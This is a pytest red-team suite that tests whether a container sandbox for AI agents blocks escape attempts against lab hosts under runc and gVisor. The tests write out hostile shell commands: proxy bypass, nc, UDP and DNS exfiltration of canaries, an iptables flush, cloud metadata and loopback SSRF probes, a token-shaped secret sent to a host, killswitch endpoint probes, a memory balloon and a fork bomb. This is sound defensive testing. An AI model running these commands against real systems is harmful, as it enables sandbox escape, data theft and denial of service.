"""The red team: attacks from inside a started bottle, against lab hosts only,
under runc and under gVisor. Each asserts that the attempt failed and that the
lab never saw the attempt's unique canary (or the blocked host at all)."""

from __future__ import annotations

import secrets
import subprocess
import sys
from pathlib import Path

import pytest

from claude_bottle.engine import Engine
from tests.engine.conftest import cli, labelled_objects, wait_for
from tests.sidecar.conftest import ATTACKER_IMAGE, Lab

RUNTIMES = [pytest.param("attacker", id="runc"), pytest.param("attacker-gvisor", id="runsc")]
PROXY = '"$HTTPS_PROXY"'


def attack(project: Path, agent: str, script: str, **env: str) -> subprocess.CompletedProcess[str]:
    return cli("run", agent, "--", "sh", "-c", script, cwd=project,
               env={"CLAUDE_BOTTLE_IMAGE": ATTACKER_IMAGE, **env}, timeout=180)  # fmt: skip


def canary() -> str:
    return f"c{secrets.token_hex(6)}"


def assert_untouched(lab: Lab, mark: str) -> None:
    assert not lab.web_saw(mark), f"the lab saw {mark}"


@pytest.fixture(params=RUNTIMES)
def agent(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_direct_ip_with_the_proxy_ignored(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        agent,
        f"unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy; "
        f"curl -s -m 3 http://{lab.web_ip}/{c}; echo status=$?; "
        f"curl -s -m 3 --noproxy '*' http://{lab.web_ip}/{c}; echo status=$?",
    )
    assert "status=0" not in r.stdout
    assert_untouched(lab, c)


def test_direct_tcp_and_udp(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        agent,
        f"printf '{c}' | nc -w 2 {lab.web_ip} 80; echo tcp=$?; "
        f'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        f"[s.sendto(b'{c}', ('{lab.web_ip}', 5353)) for _ in range(3)]\" 2>&1; "
        f"curl -s -m 3 http://allowed.test/after-udp-{c}",  # lets the lab log catch up
    )
    assert "tcp=0" not in r.stdout
    assert not any(c in str(e.get("body", "")) for e in lab.web_log() if e.get("scheme") in ("udp", None))
    assert_untouched(lab, f"/{c}")


def test_icmp(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(lab_project, agent, f"ping -c 1 -W 1 {lab.web_ip} 2>&1; echo status=$?")
    assert "status=0" not in r.stdout


def test_adding_a_route_or_flushing_iptables_needs_privilege_it_lacks(
    lab_project: Path, lab: Lab, agent: str
) -> None:
    r = attack(
        lab_project,
        agent,
        f"ip route add default via {lab.web_ip} 2>&1; echo route=$?; iptables -F 2>&1; echo flush=$?",
    )
    assert "route=0" not in r.stdout
    assert "flush=0" not in r.stdout


def test_dns_to_a_lab_server_by_ip(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(lab_project, agent, f"dig @{lab.web_ip} +time=1 +tries=1 {c}.exfil.test; echo status=$?")
    assert "status=0" not in r.stdout
    assert "ANSWER SECTION" not in r.stdout


def test_no_ipv6(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(
        lab_project,
        agent,
        'python3 -c "import socket; s=socket.socket(socket.AF_INET6); '
        "s.settimeout(2); s.connect(('2001:db8::1', 80))\" 2>&1; echo status=$?; "
        "grep -v ' lo$' /proc/net/if_inet6 2>/dev/null | grep -v '^fe80' ; true",
    )
    assert "status=0" not in r.stdout


def test_no_docker_socket_and_no_daemon_ports(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(
        lab_project,
        agent,
        "test -e /var/run/docker.sock; echo sock=$?; "
        "gw=$(ip route | awk '/default/ {print $3}'); "
        "for p in 2375 2376; do curl -s -m 2 --noproxy '*' http://$gw:$p/; echo port$p=$?; done",
    )
    assert "sock=1" in r.stdout
    assert "port2375=0" not in r.stdout
    assert "port2376=0" not in r.stdout


def test_metadata_address_directly_and_through_the_proxy(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(
        lab_project,
        agent,
        "curl -s -m 3 --noproxy '*' http://169.254.169.254/; echo direct=$?; "
        "curl -s -m 3 -o /dev/null -w 'proxied=%{http_code}\\n' http://169.254.169.254/latest/meta-data/",
    )
    assert "direct=0" not in r.stdout
    assert "proxied=403" in r.stdout


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:9464/metrics", "http://2130706433:9464/", "http://0x7f000001:9464/",
    "http://[::ffff:127.0.0.1]:9464/", "http://localhost:9464/", "http://10.0.0.1/", "http://[::1]:8888/health",
])  # fmt: skip
def test_loopback_and_private_addresses_through_the_proxy(lab_project: Path, lab: Lab, url: str) -> None:
    r = attack(lab_project, "attacker", f"curl -s -m 3 -o /dev/null -w '%{{http_code}}' '{url}'")
    assert r.stdout.strip() in ("403", "000")


def test_connect_to_odd_ports_of_an_allowed_host(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        agent,
        f"curl -sk -m 5 https://allowed.test:8443/{c}; echo tls=$?; "
        f"curl -s -m 5 http://allowed.test:8080/{c}; echo http=$?",
    )
    assert "tls=0" not in r.stdout
    assert_untouched(lab, c)


def test_tls_with_an_sni_that_differs_from_the_connect_host(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        agent,
        f"curl -sk -m 8 https://blocked.test/{c} "
        "--connect-to blocked.test:443:allowed.test:443; echo status=$?",
    )
    assert "status=0" not in r.stdout
    assert_untouched(lab, c)


@pytest.mark.parametrize("host", ["evilallowed.test", "allowed.test.evil.test", "blocked.test", "EVIL.TEST."])
def test_look_alike_names_are_refused(lab_project: Path, lab: Lab, host: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        "attacker",
        f"curl -sk -m 5 https://{host}/{c}; echo tls=$?; "
        f"curl -s -m 5 http://allowed.test@{host}/{c}; echo userinfo=$?",
    )
    assert "tls=0" not in r.stdout
    assert_untouched(lab, c)


def test_the_allowed_name_in_other_spellings_still_means_only_that_host(lab_project: Path, lab: Lab) -> None:
    c = canary()
    r = attack(lab_project, "attacker", f"curl -sk -m 5 https://ALLOWED.TEST./{c}")
    assert r.stdout.lower() == "hello from allowed.test. over https\n"  # the same host, nothing else


def test_a_redirect_from_an_allowed_host_to_a_blocked_one(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    r = attack(
        lab_project,
        agent,
        f"curl -skL -m 5 'https://allowed.test/redirect?to=https://blocked.test/{c}'; echo status=$?",
    )
    assert "status=0" not in r.stdout
    assert not any(str(e.get("host", "")).startswith("blocked.test") for e in lab.web_log())


def test_a_secret_shaped_canary_to_an_allowed_host_is_blocked(
    lab_project: Path, lab: Lab, agent: str
) -> None:
    token = "ghp_" + secrets.token_hex(18)  # the shape of a GitHub token
    r = attack(
        lab_project,
        agent,
        f"curl -s -m 5 -o /dev/null -w 'url=%{{http_code}}\\n' 'http://allowed.test/?t={token}'; "
        f"curl -s -m 5 -o /dev/null -w 'header=%{{http_code}}\\n' -H 'Authorization: Bearer {token}' http://allowed.test/",
    )
    assert "url=403" in r.stdout
    assert "header=403" in r.stdout
    assert not lab.web_saw(token)


def test_a_second_bottle_cannot_be_reached(engine: Engine, lab_project: Path, lab: Lab) -> None:
    holder = subprocess.Popen(
        [sys.executable, "-m", "claude_bottle", "run", "worker", "--", "sleep", "60"], cwd=lab_project,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        wait_for(
            lambda: sum(o.startswith("container ") for o in labelled_objects(engine)) == 2,
            60,
            "the first bottle",
        )
        names = [o.split()[1] for o in labelled_objects(engine) if o.startswith("container ")]
        fmt = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"
        ips = [ip for n in names for ip in engine.run("inspect", "-f", fmt, n).stdout.split()]
        targets = names + ips
        script = "; ".join(f"curl -s -m 2 --noproxy '*' http://{t}:8888/health; echo {t}=$?" for t in targets)
        r = attack(lab_project, "attacker", script)
        assert "=0\n" not in r.stdout
    finally:
        holder.terminate()
        holder.communicate(timeout=60)


def test_the_sidecar_admin_endpoints(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(
        lab_project,
        agent,
        "p=${HTTPS_PROXY%/}; "
        "for path in metrics stats api/v1/killswitch api/v1/killswitch/status api/v1/sessions; do "
        'curl -s -m 3 --noproxy \'*\' -o /dev/null -w "$path=%{http_code}\\n" -X POST "$p/$path"; done; '
        "h=${p#http://}; h=${h%:*}; curl -s -m 3 --noproxy '*' http://$h:9464/metrics; echo metricsport=$?",
    )
    for path in ("metrics", "stats"):
        assert f"{path}=404" in r.stdout or f"{path}=405" in r.stdout
    for path in ("api/v1/killswitch", "api/v1/killswitch/status", "api/v1/sessions"):
        assert f"{path}=200" not in r.stdout
    assert "metricsport=0" not in r.stdout


def test_privileges_from_proc_self_status(lab_project: Path, lab: Lab, agent: str) -> None:
    r = attack(lab_project, agent, "grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status")
    fields = dict(line.split(":\t") for line in r.stdout.strip().splitlines())
    assert fields["CapEff"] == "0000000000000000"
    if agent == "attacker":
        # gVisor's /proc reports neither field (a known limit, in the README); the
        # engine still sets no-new-privileges, and gVisor filters syscalls itself.
        assert fields["NoNewPrivs"] == "1"
        assert fields["Seccomp"] == "2"


def test_a_memory_balloon_is_contained(engine: Engine, lab_project: Path, lab: Lab) -> None:
    # runc only: under the gVisor release in Debian 12 the balloon takes the whole
    # sandbox down and the engine's removal of it can hang (a known limit, in the README).
    balloon = "node -e 'const a=[]; for(;;) a.push(Buffer.alloc(1e7, 1))'"
    r = attack(lab_project, "attacker", f"timeout 30 {balloon} >/dev/null 2>&1; echo balloon=$?; echo alive")
    assert "balloon=137" in r.stdout  # the kernel killed the balloon, the bottle lives on
    assert "alive" in r.stdout
    assert labelled_objects(engine) == []


def test_a_fork_bomb_is_contained_by_the_pid_limit(lab_project: Path, lab: Lab) -> None:
    # runc only: under gVisor the agent's processes live in gVisor's own kernel and
    # the engine's PID limit does not count them (a known limit, in the README).
    r = attack(lab_project, "attacker",
               # Read the limit first: once the bomb has used it up, nothing else can start.
               "cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null; "
               # The bomb's output goes nowhere, so its orphans do not hold this command open.
               "timeout 10 sh -c 'f() { f | f & }; f' >/dev/null 2>&1; echo alive")  # fmt: skip
    assert "alive" in r.stdout
    assert "128" in r.stdout
